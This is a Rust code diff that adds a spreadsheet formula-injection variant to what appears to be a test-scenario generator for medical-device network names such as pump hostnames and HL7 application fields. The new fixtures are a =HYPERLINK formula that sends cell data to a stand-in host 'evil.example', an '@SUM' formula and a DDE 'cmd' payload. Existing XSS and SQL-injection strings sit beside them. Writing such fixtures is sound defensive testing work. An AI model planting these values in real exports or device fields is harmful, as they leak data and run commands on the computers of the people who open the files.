@@ -37,7 +37,13 @@ pub enum Variant {
     /// Hostile names: DHCP hostname and HTTP User-Agent `<script>alert(1)</script>`,
     /// HL7 sending application with HTML and SQL injection.
     Hostile,
+    /// Spreadsheet formula injection: the pump's DHCP hostname is
+    /// [`FORMULA_HOSTNAME`] (a live `=HYPERLINK` if a CSV cell keeps it).
+    Formula,
 }
+
+/// The DHCP hostname of [`Variant::Formula`].
+pub const FORMULA_HOSTNAME: &str = r#"=HYPERLINK("http://evil.example/steal?d="&A2,"Open")"#;
 
 /// A device in the scenario.
 #[derive(Debug, Clone, Copy)]
@@ -323,6 +329,11 @@ fn names(variant: Variant) -> Names {
             pump_hostname: "<script>alert(1)</script>",
             monitor_app: "<img src=x onerror=alert(1)>'; DROP TABLE devices;--",
             user_agent: "<script>alert(1)</script>",
+        },
+        Variant::Formula => Names {
+            pump_hostname: FORMULA_HOSTNAME,
+            monitor_app: "@SUM(1+1)",
+            user_agent: "+cmd|' /C calc'!A0",
         },
     }
 }
